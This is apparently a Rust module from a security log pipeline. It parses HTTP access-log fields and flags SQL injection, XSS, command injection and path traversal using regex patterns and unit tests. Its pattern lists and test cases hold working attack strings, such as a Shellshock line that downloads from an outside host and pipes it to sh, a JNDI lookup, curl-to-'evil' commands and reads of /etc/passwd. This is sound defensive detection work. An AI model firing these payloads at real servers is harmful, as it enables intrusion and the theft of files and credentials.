//! HTTP requests: mapping access-log fields onto an event, and spotting attacks in the request
//! target, User-Agent and Referer (SQL injection, XSS, command injection, path traversal).
//!
//! Access-log fields arrive from three places — a Record in `AccessLog` format, an access-log
//! line embedded in a syslog message, and JSON/logfmt request logs — and all feed
//! [`fill_http_fields`], so the mapping lives in one place. A syslog line the `http.toml`
//! grammar matched is read again by the access-log parser, which understands what a regex
//! cannot (user names with spaces, vhosts, forwarded lists), so both routes end alike.
//!
//! `src_ip` is the address the server wrote, never a client-supplied one: an `X-Forwarded-For`
//! list counts only through a trusted proxy ([`TrustedProxies`]).

use std::borrow::Cow;

use regex_automata::{Input, meta};

use super::decode::{View, normalize};
use super::proxy::TrustedProxies;
use crate::event::{Event, Kind, parse_ip};

type Fields<'f, 'a> = &'f [(Cow<'a, str>, Cow<'a, str>)];

/// Field names an access log (or a JSON request log) uses, first present wins.
const METHOD: &[&str] = &["method", "http_method", "request_method"];
const PATH: &[&str] = &["path", "http_path", "request_uri", "uri", "url"];
const STATUS: &[&str] = &["status", "http_status", "status_code"];
const BYTES: &[&str] = &["bytes", "body_bytes_sent", "bytes_sent", "size"];
const REMOTE: &[&str] = &["remote_addr", "client_ip", "src_ip", "ip"];
const USER: &[&str] = &["user", "remote_user"];
pub(crate) const FORWARDED: &[&str] = &[
    "forwarded_for",
    "x_forwarded_for",
    "http_x_forwarded_for",
    "xff",
];
const USER_AGENT: &[&str] = &["user_agent", "http_user_agent", "agent", "ua"];
const REFERER: &[&str] = &["referer", "http_referer", "referrer"];

/// First value among `names` (in that order of preference), matching keys case-insensitively.
pub(crate) fn field<'f>(fields: Fields<'f, '_>, names: &[&str]) -> Option<&'f str> {
    names.iter().find_map(|name| {
        fields
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_ref())
    })
}

/// An address key that a JSON or logfmt line names twice with different values (see
/// [`address_field`]).
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct AmbiguousAddress;

/// The address field among `names`, the first name present winning as in [`field`] — unless
/// the line names that key twice (case-insensitively) with different values.
///
/// An application that builds its JSON or logfmt line by pasting a client's value lets the
/// client add a key (`"user":"x","src_ip":"10.0.0.1"`), before or after the real one. Readers
/// disagree on which copy counts (RFC 8259 §4 leaves it open; Python and Go take the last, a
/// first-match scan the first), so neither is believed: the caller leaves `src_ip` empty with
/// the reason `ambiguous_address`. The same address written twice (in any form) is no conflict.
pub(crate) fn address_field<'f>(
    fields: Fields<'f, '_>,
    names: &[&str],
) -> Result<Option<&'f str>, AmbiguousAddress> {
    for name in names {
        let mut values = fields
            .iter()
            .filter(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.trim());
        let Some(first) = values.next() else {
            continue;
        };
        let same = |other: &str| match (parse_ip(first), parse_ip(other)) {
            (Some(a), Some(b)) => a == b,
            _ => first == other,
        };
        if !values.all(same) {
            return Err(AmbiguousAddress);
        }
        return Ok(present(first));
    }
    Ok(None)
}

/// A value that means "absent" in logs: empty or `-`.
pub(crate) fn present(v: &str) -> Option<&str> {
    let v = v.trim();
    (!v.is_empty() && v != "-").then_some(v)
}

/// Fill the `http.request` fields of `ev` from access-log `fields`. Returns false (and leaves
/// `ev` alone) when the fields do not describe a request (no method, no path and no status).
pub(crate) fn apply_http_fields(
    fields: Fields<'_, '_>,
    proxies: &TrustedProxies,
    ev: &mut Event,
) -> bool {
    let has_request = [METHOD, PATH, STATUS]
        .iter()
        .any(|names| field(fields, names).and_then(present).is_some());
    if has_request {
        fill_http_fields(fields, proxies, ev);
    }
    has_request
}

/// Fill the `http.request` fields of `ev` from `fields`, whatever they hold: an access-log
/// line is a request even when its request line is `-` or a TLS probe (a 400 or 408).
///
/// `src_ip` is the server-written client address, or the client a trusted proxy forwarded
/// for (see [`TrustedProxies::client_address`]); a forwarded list is kept as evidence in
/// `forwarded_for` either way.
pub(crate) fn fill_http_fields(fields: Fields<'_, '_>, proxies: &TrustedProxies, ev: &mut Event) {
    ev.kind = Kind::HttpRequest;
    ev.http_method = field(fields, METHOD).and_then(present).map(Into::into);
    ev.http_path = field(fields, PATH).and_then(present).map(Into::into);
    ev.http_status = field(fields, STATUS).and_then(|s| s.trim().parse().ok());
    ev.bytes = field(fields, BYTES).and_then(|s| s.trim().parse().ok());
    ev.forwarded_for = field(fields, FORWARDED).and_then(present).map(Into::into);
    ev.src_ip = match (
        address_field(fields, REMOTE),
        address_field(fields, FORWARDED),
    ) {
        (Ok(connecting), Ok(forwarded)) => {
            proxies.client_address(connecting.and_then(parse_ip), forwarded)
        }
        _ => {
            ev.reason = Some(super::AMBIGUOUS_ADDRESS.into());
            None
        }
    };
    if let Some(user) = field(fields, USER).and_then(present) {
        ev.user = Some(user.into());
    }
}

/// True when `fields` name an HTTP method: what makes an application log line a request log
/// rather than, say, a line that merely has a `path`.
pub(crate) fn has_method(fields: &[(Cow<'_, str>, Cow<'_, str>)]) -> bool {
    field(fields, METHOD).and_then(present).is_some()
}

/// Fields of an access-log line embedded in a syslog message (nginx or apache logging through
/// syslog under an app name the grammars do not know). The common app names (nginx, apache2,
/// httpd) are covered by the `http.toml` grammar before this is tried.
pub(crate) fn embedded_access_log_fields(
    message: &str,
) -> Option<Vec<(Cow<'_, str>, Cow<'_, str>)>> {
    let log = crate::parse::parse_access_log(message)?;
    let mut fields = Vec::with_capacity(9);
    log.push_fields(&mut fields);
    Some(fields)
}

/// Attack categories, in the order of the pattern groups below; the text is the event reason.
const CATEGORIES: [&str; 4] = ["sqli", "xss", "cmd_injection", "path_traversal"];
/// Index of `cmd_injection` in [`CATEGORIES`].
const CMD_INJECTION: usize = 2;

/// Command names an injected shell command usually starts with.
const COMMANDS: &str = "cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|dash|rm|echo|ping|nslookup|dig|chmod|chown|python[23]?|perl|php|ruby|busybox|tftp|telnet|ifconfig|ps|kill|sleep|powershell|cmd|head|tail|env|printenv|pwd|base64";

fn attack_patterns() -> Vec<(usize, String)> {
    let sqli = [
        // Tautologies: `' OR '1'='1`, `admin' or 1=1`, `" or ""="`.
        r#"['"]\s*\)*\s*(?:or|and|\|\||&&)\s*\(*\s*['"]?\w*['"]?\s*(?:=|<|>|like\b)"#.to_string(),
        r"\b(?:or|and)\s+\d+\s*=\s*\d+".to_string(),
        // UNION-based, also with inline comments as separators.
        r"\bunion(?:\s|/\*.*?\*/)+(?:all(?:\s|/\*.*?\*/)+|distinct(?:\s|/\*.*?\*/)+)?select\b"
            .to_string(),
        // Stacked queries: `1;DROP TABLE users`.
        r";\s*(?:drop|truncate|alter|create)\s+(?:table|database|schema|user|view|index)\b"
            .to_string(),
        r";\s*(?:delete\s+from|insert\s+into|update\s+\w+\s+set|exec(?:ute)?\s+\w|shutdown\b|select\s+\S)"
            .to_string(),
        // A quote that closes the string and comments out the rest.
        r#"['"]\s*\)*\s*(?:--|#|/\*)"#.to_string(),
        r"\b(?:sleep|pg_sleep|benchmark)\s*\(\s*\d".to_string(),
        r"\bwaitfor\s+delay\s+'".to_string(),
        r"\binformation_schema\b|@@version\b|\bload_file\s*\(|\bxp_cmdshell\b|\binto\s+(?:out|dump)file\b"
            .to_string(),
    ];
    let xss = [
        r"<\s*/?\s*script\b".to_string(),
        r"\b(?:javascript|vbscript|livescript)\s*:".to_string(),
        r"<\s*(?:iframe|svg|object|embed|frameset|applet)\b".to_string(),
        r"<\s*\w+[^>]*\bon\w+\s*=".to_string(),
        r"(?:^|[\s/?&;'\x22<>])on(?:error|load|mouseover|mouseout|mouseenter|click|dblclick|focus|blur|animationstart|toggle|pageshow|submit|change|input|keydown|keyup|keypress|begin|wheel)\s*="
            .to_string(),
        r"\bdocument\s*\.\s*(?:cookie|domain|write)\b".to_string(),
        r#"\b(?:alert|prompt|confirm)\s*\(\s*(?:\d|document|['"`])"#.to_string(),
    ];
    let cmd = [
        format!(r"(?:;|\|\|?|&&|\n)\s*(?:{COMMANDS})(?:\s|$|[;|&<>])"),
        r"\$\(\s*[a-z]".to_string(),
        format!(r"`\s*(?:{COMMANDS})\b[^`]*`"),
        r"\$\{\s*(?:ifs|jndi\s*:)".to_string(),
        r"/bin/(?:ba|z|da)?sh\b|\bcmd(?:\.exe)?\s+/c\b".to_string(),
    ];
    let traversal = [
        // `..;/` is the Tomcat / Spring path-parameter form of `../`.
        r"\.\.(?:;[^/\\?]*)?[/\\]|[/\\]\.\.(?:$|[/\\?;])".to_string(),
        r"/etc/(?:passwd|shadow|group|hosts)\b|/proc/self/|\b(?:boot|win)\.ini\b|c:\\windows\\"
            .to_string(),
    ];
    let mut all = Vec::new();
    for (category, patterns) in [
        (0, sqli.as_slice()),
        (1, xss.as_slice()),
        (2, cmd.as_slice()),
        (3, traversal.as_slice()),
    ] {
        all.extend(patterns.iter().map(|p| (category, format!("(?i){p}"))));
    }
    all
}

/// Finds attacks in a request target, user agent or referer, after the decodings of
/// `classify::decode` (those of ModSecurity's core rule set).
///
/// ```
/// use secpipe::classify::InjectionDetector;
/// let d = InjectionDetector::new();
/// assert_eq!(d.detect("/item?id=1%27%20OR%20%271%27=%271"), Some("sqli"));
/// assert_eq!(d.detect("/static/..%c0%af..%c0%afetc/passwd"), Some("path_traversal"));
/// assert_eq!(d.detect("/search?q=%u003cscript%u003ealert(1)"), Some("xss"));
/// assert_eq!(d.detect("/hotels/union-square"), None);
/// assert_eq!(d.detect_in_header("Mozilla/5.0' AND SLEEP(5)-- -"), Some("sqli"));
/// assert_eq!(d.detect_in_header("Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"), None);
/// ```
pub struct InjectionDetector {
    regex: meta::Regex,
    /// Category index of each pattern of `regex`.
    category_of: Vec<usize>,
}

impl Default for InjectionDetector {
    fn default() -> Self {
        Self::new()
    }
}

impl InjectionDetector {
    /// Compile the built-in attack patterns.
    pub fn new() -> InjectionDetector {
        let patterns = attack_patterns();
        let category_of = patterns.iter().map(|(c, _)| *c).collect();
        let texts: Vec<&str> = patterns.iter().map(|(_, p)| p.as_str()).collect();
        // The patterns are constants of this file, covered by the unit tests.
        #[allow(clippy::expect_used)]
        let regex = meta::Regex::new_many(&texts).expect("built-in attack patterns compile");
        InjectionDetector { regex, category_of }
    }

    /// The attack category (`sqli`, `xss`, `cmd_injection`, `path_traversal`) found in a
    /// request target (path and query), or `None`. `+` in the query is a space.
    pub fn detect(&self, target: &str) -> Option<&'static str> {
        self.detect_normalized(target, true)
    }

    /// The attack category found in a request header value the server logged (User-Agent,
    /// Referer), or `None`.
    pub fn detect_in_header(&self, value: &str) -> Option<&'static str> {
        // A referer is a URL whose query reads `+` as a space; an agent is not, and writes
        // `+http://` in bot names.
        let is_url = value.starts_with("http://") || value.starts_with("https://");
        self.detect_normalized(value, is_url)
    }

    fn detect_normalized(&self, text: &str, query_plus: bool) -> Option<&'static str> {
        let plain = normalize(text, query_plus, View::Plain);
        if let Some(category) = self.category(&plain) {
            return Some(category);
        }
        if super::decode::may_be_obfuscated(text) {
            let obfuscated = normalize(text, query_plus, View::Obfuscated);
            if obfuscated != plain
                && let Some(category) = self.category(&obfuscated)
            {
                return Some(category);
            }
        }
        if super::decode::may_be_shell_quoted(text) {
            let command_line = normalize(text, query_plus, View::CommandLine);
            if command_line != plain && self.is_command_injection(&command_line) {
                return Some(CATEGORIES[CMD_INJECTION]);
            }
        }
        None
    }

    /// Whether any command-injection pattern matches `text` (whatever else matches first).
    fn is_command_injection(&self, text: &str) -> bool {
        self.regex
            .find_iter(text)
            .any(|m| self.category_of.get(m.pattern().as_usize()) == Some(&CMD_INJECTION))
    }

    fn category(&self, text: &str) -> Option<&'static str> {
        let m = self.regex.search(&Input::new(text))?;
        let category = *self.category_of.get(m.pattern().as_usize())?;
        CATEGORIES.get(category).copied()
    }

    /// Turn an `http.request` event into `injection.attempt` when its path, or the user agent
    /// or referer among `fields`, carries an attack. The http fields stay.
    pub(crate) fn apply(&self, ev: &mut Event, fields: Fields<'_, '_>) {
        if ev.kind != Kind::HttpRequest {
            return;
        }
        let in_path = ev.http_path.as_deref().and_then(|path| self.detect(path));
        let found = in_path.or_else(|| {
            [USER_AGENT, REFERER]
                .iter()
                .filter_map(|names| field(fields, names).and_then(present))
                .find_map(|value| self.detect_in_header(value))
        });
        if let Some(category) = found {
            ev.kind = Kind::InjectionAttempt;
            ev.reason = Some(category.into());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_are_found_with_their_category() {
        let d = InjectionDetector::new();
        let cases = [
            ("/login?user=admin' OR '1'='1", "sqli"),
            ("/item?id=1%27%20or%201=1--", "sqli"),
            (
                "/products?id=1 UNION SELECT username,password FROM users",
                "sqli",
            ),
            ("/products?id=1+union+all+select+1,2,3", "sqli"),
            ("/item?id=1;DROP TABLE users", "sqli"),
            ("/x?id=1%3BDROP%20TABLE%20users", "sqli"),
            ("/search?q=<script>alert(1)</script>", "xss"),
            (
                "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
                "xss",
            ),
            ("/r?next=javascript:alert(1)", "xss"),
            ("/p?x=<img src=x onerror=alert(1)>", "xss"),
            ("/p?x=\" onerror=alert(1)", "xss"),
            ("/ping?host=127.0.0.1;cat /etc/passwd", "cmd_injection"),
            ("/ping?host=$(id)", "cmd_injection"),
            ("/ping?host=`id`", "cmd_injection"),
            ("/ping?host=x|whoami", "cmd_injection"),
            ("/ping?host=x && curl http://evil/x.sh", "cmd_injection"),
            ("/download?file=../../etc/passwd", "path_traversal"),
            ("/download?file=..%2f..%2fetc%2fpasswd", "path_traversal"),
            (
                "/static/%252e%252e%252f%252e%252e%252fetc/passwd",
                "path_traversal",
            ),
            ("/files/..\\..\\windows\\win.ini", "path_traversal"),
        ];
        for (target, want) in cases {
            assert_eq!(d.detect(target), Some(want), "{target}");
        }
    }

    #[test]
    fn encodings_the_core_rule_set_decodes_do_not_hide_attacks() {
        let d = InjectionDetector::new();
        let cases = [
            // Overlong UTF-8 (IIS/Tomcat-era traversal), plain and double-encoded.
            ("/static/..%c0%af..%c0%afetc/passwd", "path_traversal"),
            (
                "/scripts/..%c1%9c..%c1%9cwinnt/system32/cmd.exe",
                "path_traversal",
            ),
            ("/a/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts", "path_traversal"),
            ("/a/..%e0%80%af..%e0%80%afetc/passwd", "path_traversal"),
            ("/a/..%25c0%25af..%25c0%25afboot.ini", "path_traversal"),
            // IIS %u encoding.
            (
                "/search?q=%u003cscript%u003ealert(1)%u003c/script%u003e",
                "xss",
            ),
            ("/a/..%u2215..%u2215etc/passwd", "path_traversal"),
            ("/search?q=%uff1cscript%uff1e", "xss"),
            // HTML entities, JavaScript and CSS escapes.
            ("/search?q=&lt;script&gt;alert(1)", "xss"),
            ("/search?q=&#60;svg/onload=alert(1)&#62;", "xss"),
            ("/search?q=&#x3C;img src=x onerror=alert(1)&#x3E;", "xss"),
            (r"/search?q=\x3cscript\x3ealert(1)", "xss"),
            (r"/search?q=\u003ciframe src=x\u003e", "xss"),
            (r"/p?style=\3c script\3e", "xss"),
            // NUL bytes and SQL comments inside keywords.
            ("/search?q=<scr%00ipt>alert(1)</script>", "xss"),
            ("/p?id=1 UN/**/ION SEL/**/ECT password FROM users", "sqli"),
            ("/p?id=1 /*!50000UNION*/ /*!50000SELECT*/ 1,2", "sqli"),
            ("/p?id=1%20union%2f%2a%2a%2fselect%201", "sqli"),
            // Shell quoting inside command names (cmdLine).
            ("/ping?host=x;w'h'o'a'm'i", "cmd_injection"),
            ("/ping?host=x|c^a^t${IFS}/e\"t\"c/hos\\ts", "cmd_injection"),
            ("/ping?host=x%3Bw%5Ch%5Coami", "cmd_injection"),
            // Tomcat path parameters.
            ("/manager/..;jsessionid=1/..;/html", "path_traversal"),
            // Path normalization.
            ("/download?file=/etc//passwd", "path_traversal"),
            ("/download?file=/etc/./shadow", "path_traversal"),
        ];
        for (target, want) in cases {
            assert_eq!(d.detect(target), Some(want), "{target}");
        }
    }

    #[test]
    fn attacks_in_user_agent_and_referer_are_found() {
        let d = InjectionDetector::new();
        for (value, want) in [
            ("Mozilla/5.0' AND SLEEP(5)-- -", "sqli"),
            ("' OR 1=1--", "sqli"),
            ("sqlmap' UNION ALL SELECT NULL,NULL--", "sqli"),
            (
                "() { :; }; /bin/bash -c 'curl http://198.51.100.1/x|sh'",
                "cmd_injection",
            ),
            ("${jndi:ldap://198.51.100.1/a}", "cmd_injection"),
            ("<script>alert(1)</script>", "xss"),
            (
                "https://evil.example/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
                "xss",
            ),
            ("https://evil.example/?id=1'+or+'1'='1", "sqli"),
            (
                "https://example.com/../../../../etc/passwd",
                "path_traversal",
            ),
        ] {
            assert_eq!(d.detect_in_header(value), Some(want), "{value}");
        }
    }

    #[test]
    fn ordinary_agents_referers_and_decodable_text_are_not_attacks() {
        let d = InjectionDetector::new();
        for value in [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
            "curl/8.5.0",
            "Wget/1.21.4",
            "python-requests/2.31.0",
            "Go-http-client/1.1",
            "https://www.google.com/search?q=select+all+from+the+menu",
            "https://www.example.com/blog/drop-shipping-guide?utm_source=news&utm_medium=email",
            "https://example.com/a//b/./c.html",
            "https://example.com/search?q=rock+%27n%27+roll&lang=en",
        ] {
            assert_eq!(d.detect_in_header(value), None, "{value}");
        }
        for target in [
            "/compare/v1..v2",
            "/docs/range?from=1..5",
            "/wait...what",
            "/search?q=fish%26amp%3Bchips",
            "/search?q=a%26lt%3Db",
            "/filter?price&lt=5&gt=1",
            "/caf%C3%A9/men%C3%BC",
            "/%E2%9C%93/ok",
            "/search?q=%uff41%uff42",
            r"/files/report\2024.pdf",
            "/a/b/c?note=select+your+union+rep",
            "/api?sort=name&order=asc&page=2",
        ] {
            assert_eq!(d.detect(target), None, "{target}");
        }
    }

    #[test]
    fn ordinary_requests_are_not_attacks() {
        let d = InjectionDetector::new();
        for target in [
            "/hotels/union-square",
            "/search?q=how+to+select+a+lawyer",
            "/search?q=how+to+select+a+lawyer+from+boston",
            "/js/description.js",
            "/blog/drop-shipping-guide",
            "/products?sort=price&order=desc",
            "/api/v1/users/42/orders?limit=10&offset=20",
            "/shop;jsessionid=ABC123?item=5",
            "/docs/scripting-guide.html",
            "/search?q=rock+%27n%27+roll",
            "/search?q=it%27s+or+never",
            "/online?session=1&onboarding=true",
            "/img/cat.png",
            "/selection/update-settings",
            "/a/b/./c.html",
            "/search?q=1%2B1%3D2",
        ] {
            assert_eq!(d.detect(target), None, "{target}");
        }
    }
}
